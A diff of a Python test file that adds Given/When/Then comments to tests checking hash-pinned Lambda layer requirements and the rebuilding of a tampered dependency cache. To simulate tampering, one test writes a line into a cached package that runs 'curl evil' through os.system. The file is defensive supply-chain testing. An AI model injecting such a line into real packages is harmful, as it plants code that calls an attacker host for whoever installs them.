@@ -10,8 +10,11 @@ from streamwatch.cdk import bundling
 
 
 def test_every_layer_requirement_is_pinned_with_its_hash():
+    # Given the dependency layer's requirements file
     text = bundling.LAMBDA_REQUIREMENTS.read_text()
+    # When its entries are read (continuation lines joined, comments left out)
     entries = [e for e in text.replace("\\\n", " ").splitlines() if e.strip() and not e.lstrip().startswith("#")]
+    # Then every one pins a version with its sha256 hash
     assert entries and all("==" in e and "--hash=sha256:" in e for e in entries), entries
 
 
@@ -29,11 +32,15 @@ def test_a_cache_whose_content_changed_is_rebuilt_not_shipped(tmp_path, monkeypa
     monkeypatch.setattr(bundling.subprocess, "run", fake_pip)
     requirements = tmp_path / "reqs.txt"
     requirements.write_text("obstore==0.12.1 --hash=sha256:" + "0" * 64 + "\n")
+    # When the layer is built the first time
     first = bundling.pip_target([f"-r {requirements}"])
+    # Then pip was run with --require-hashes
     assert "--require-hashes" in builds[0]
-    # When it is reused untouched, Then nothing is built again
+    # When it is reused untouched
+    # Then nothing is built again
     assert bundling.pip_target([f"-r {requirements}"]) == first and len(builds) == 1
-    # When someone changes a file in the cache, Then the next synth builds it again
+    # When someone changes a file in the cache
     (first / "obstore" / "__init__.py").write_text("import os; os.system('curl evil')\n")
     again = bundling.pip_target([f"-r {requirements}"])
+    # Then the next synth builds it again
     assert len(builds) == 2 and (again / "obstore" / "__init__.py").read_text() == "GOOD = True\n"
